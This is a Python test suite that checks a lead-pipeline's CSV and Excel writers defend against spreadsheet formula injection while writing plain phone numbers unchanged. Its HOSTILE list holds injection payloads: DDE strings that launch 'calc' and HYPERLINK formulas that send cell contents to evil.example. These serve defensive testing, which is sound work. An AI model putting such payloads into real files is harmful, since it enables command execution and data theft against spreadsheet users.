"""Hostile outputs: no CSV cell we write can start a formula, and plain E.164 phones are written as they are.

Issue #17: the CRM import CSV did not neutralise a formula after leading whitespace (` =1+1`), and every E.164
phone was written as `'+...`, which a CRM import then keeps. The rule (OWASP "CSV Injection"): a cell whose
first non-blank character is = + - @ (or that starts with a tab or a line break) gets a leading `'`; a value of
digits and spaces with at most a leading + cannot be a formula and is written unchanged. The oracle below is
written from that guidance, not from the implementation: `could_run_as_formula` says what Excel, LibreOffice
Calc and Google Sheets could evaluate.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from connectors.sinks.base import plan_pushes
from leadpipe.core.schema import PROSPECT_FIELDS
from leadpipe.core.spreadsheet import neutralise_formula
from leadpipe.pipeline.dedupe_file import dedupe_csv
from leadpipe.store.warehouse import engine_for, migrate, prospects
from tests.rebuild_seed import seed_warehouse

# OWASP: = + - @ start a formula, as do tab and carriage return; fullwidth forms fold to them in some locales.
OWASP_TRIGGERS = set("=+-@") | {"\uff1d", "\uff0b", "\uff0d", "\uff20"}
PLAIN_NUMBER = re.compile(r"\+?[0-9][0-9 ]*")

HOSTILE = [
    "=1+1", " =1+1", "  =HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "\t=1+1", "\r=1+1", "\n=1+1",
    "\u00a0=1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff=1+1", "\x00=1+1", "\uff1d1+1",
    "+1+1", " +cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t@x",
    "+49 30 1234+1", "+49-30-123456", "-12", "+",
]
PLAIN = ["+4930123456", "+49 30 123456", "4930123456", "Jane", "O'Brien", "a=b", "x+y", "AT&T", "", "'=1"]


def could_run_as_formula(cell: str) -> bool:
    """Would a spreadsheet evaluate this cell (the guidance's rule, blanks and invisible characters skipped)?"""
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    rest = cell.lstrip("".join(chr(c) for c in range(0x21)) + "\u00a0\u3000\u200b\ufeff\x85")
    rest = "".join(c for c in rest if unicodedata.category(c) not in ("Cc", "Cf", "Zs", "Zl", "Zp"))
    return rest[:1] in OWASP_TRIGGERS


def is_safe(cell: str) -> bool:
    """What the writers promise: the cell cannot run as a formula, or it is a plain number (an E.164 phone)."""
    return not could_run_as_formula(cell) or PLAIN_NUMBER.fullmatch(cell) is not None


@pytest.mark.parametrize("value", HOSTILE)
def test_every_formula_spelling_is_written_as_text(value: str) -> None:
    assert could_run_as_formula(value)  # the case is what it claims to be
    assert neutralise_formula(value) == "'" + value


@pytest.mark.parametrize("value", PLAIN)
def test_plain_values_and_e164_phones_are_written_as_they_are(value: str) -> None:
    assert neutralise_formula(value) == value


@settings(max_examples=2000, deadline=None)
@given(st.one_of(st.text(), st.from_regex(r"[ \t\r\n\u00a0\u3000]{0,3}[=+\-@][^\n]{0,12}", fullmatch=True),
                 st.from_regex(r"\+?[0-9][0-9 ]{0,14}", fullmatch=True)))
def test_no_written_cell_can_run_as_a_formula(value: str) -> None:
    cell = neutralise_formula(value)
    assert is_safe(cell), repr(cell)
    if not could_run_as_formula(value):
        assert cell == value  # plain values round-trip unchanged
    else:
        assert cell in (value, "'" + value)  # nothing lost: at most one apostrophe in front


def _read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def test_the_crm_import_csv_keeps_phones_and_neutralises_every_field(tmp_path: Path) -> None:
    from connectors.sinks.local import LocalSink

    url = f"sqlite:///{tmp_path / 'w.db'}"
    migrate(url)
    text_fields = [f for f in PROSPECT_FIELDS if f not in ("person_id", "email", "phone", "score", "annual_revenue",
                                                          "dnc_checked_at", "email_sendable", "phone_callable")]
    # ^ typed columns in the table (numbers, dates, yes/no)
    assert "company" in text_fields and "consent_evidence" in text_fields
    records = []
    for i, payload in enumerate(HOSTILE):
        rec = {f: payload for f in text_fields}
        records.append({**rec, "person_id": f"p{i}", "email": f"p{i}@example.com", "score": 50,
                        "phone": "+4930123456"})
    LocalSink(engine_for(url), prospects, tmp_path / "crm_import.csv").write(plan_pushes(records, {}), "run-1")
    rows = _read(tmp_path / "crm_import.csv")
    assert len(rows) == len(HOSTILE)
    for row in rows:
        assert row["phone"] == "+4930123456"  # as the CRM should store it
        for field, cell in row.items():
            assert is_safe(cell), (field, cell)
    company = {row["person_id"]: row["company"] for row in rows}
    assert company["p1"] == "' =1+1" and company["p3"] == "'\t=1+1"


def test_dedupe_output_neutralises_the_vendor_cells_and_headers(tmp_path: Path) -> None:
    src = tmp_path / "in.csv"
    with src.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["First Name", "Last Name", "Email", "Phone", " =HYPERLINK(\"http://evil\")"])
        writer.writerow(["Ann", " =1+1", "ann@example.com", "+4930123456", "x"])
        writer.writerow(["\t@SUM(A1)", "Lee", "lee@example.com", "+44 20 7946 0000", "-2+3"])
    dedupe_csv(src, tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as fh:
        cells = list(csv.reader(fh))
    # the header as the pipeline's file reader gives it (trimmed), still written as text
    assert cells[0][4] == "'=HYPERLINK(\"http://evil\")"
    assert [r[3] for r in cells[1:]] == ["+4930123456", "+44 20 7946 0000"]
    for row in cells:
        for cell in row:
            assert is_safe(cell), cell


def test_a_list_name_typed_in_the_rebuild_form_is_written_as_text(home: Path) -> None:
    from leadpipe.pipeline.rebuild import Segment, plan_list, write_list
    from leadpipe.pipeline.settings import load_config

    seed_warehouse(home)
    cfg = load_config()
    name = " =HYPERLINK(\"http://evil.example\",\"open\")"
    plan_list(cfg, home / "rb", Segment(list_name=name, min_score=40, dry_run=False))
    write_list(cfg, "rebuild_1", home / "rb")
    members = _read(home / "rb" / "list_members.csv")
    assert members and {m["list_name"] for m in members} == {"'" + name}


def test_the_list_preview_downloads_write_text_as_text_and_phones_as_they_are() -> None:
    """The Reports tab's list preview, as CSV and as Excel (leadpipe.pipeline.spreadsheets)."""
    from openpyxl import load_workbook

    from leadpipe.pipeline.spreadsheets import csv_bytes, xlsx_bytes

    headers = ["person_id", "company", "phone", "score", " =HYPERLINK(\"http://evil\")", "=1+1"]
    rows = [[f"p{i}", value, "+4930123456", 70 + i, value, value] for i, value in enumerate(HOSTILE + PLAIN)]
    cells = list(csv.reader(io.StringIO(csv_bytes(headers, rows).decode("utf-8"))))
    assert cells[0][4] == "' =HYPERLINK(\"http://evil\")"
    for row in cells:
        for cell in row:
            assert is_safe(cell), repr(cell)
    body = cells[1:]
    assert [r[2] for r in body] == ["+4930123456"] * len(rows)
    assert [r[3] for r in body] == [str(70 + i) for i in range(len(rows))]
    assert [r[1] for r in body[len(HOSTILE):]] == PLAIN  # plain values untouched
    sheet = load_workbook(io.BytesIO(xlsx_bytes(headers, rows))).active
    assert [c.value for c in sheet[1]] == headers and {c.data_type for c in sheet[1]} == {"s"}
    for row in sheet.iter_rows(min_row=2):
        for cell in (row[1], row[4], row[5]):
            assert cell.value is None or cell.data_type == "s", cell.value  # text, never a formula ("f")
        assert row[2].value == "+4930123456" and row[3].data_type == "n"
    assert sheet["B3"].value == " =1+1" and sheet.cell(row=2 + HOSTILE.index("\x00=1+1"), column=2).value == "=1+1"


def test_forget_rewrites_a_run_folder_csv_without_adding_or_losing_an_apostrophe(tmp_path: Path) -> None:
    """`leadpipe forget` rewrites CSV files of run folders without the person's rows; the other rows' cells
    stay exactly as written: neutralised once (no second `'`), E.164 phones as they are."""
    import pandas as pd

    from leadpipe.pipeline.forget import ErasurePlan, scrub_run_files

    folder = tmp_path / "runs" / "r1"
    folder.mkdir(parents=True)
    written = pd.DataFrame({"person_id": ["p1", "p2", "p3"], "email": ["a@x.de", "b@x.de", "c@x.de"],
                            "company": [" =1+1", "Acme", "\t@SUM(A1)"], "phone": ["+4930123456"] * 3})
    from leadpipe.core.spreadsheet import neutralise_frame

    neutralise_frame(written).to_csv(folder / "crm_import.csv", index=False)
    before = _read(folder / "crm_import.csv")
    assert before[0]["company"] == "' =1+1"
    changed = scrub_run_files(tmp_path / "runs", ErasurePlan(identifier=None, people=[{"person_id": "p2"}]))
    assert changed == {str(folder / "crm_import.csv"): 1}
    after = _read(folder / "crm_import.csv")
    assert after == [before[0], before[2]]
    for row in after:
        assert all(is_safe(cell) for cell in row.values())
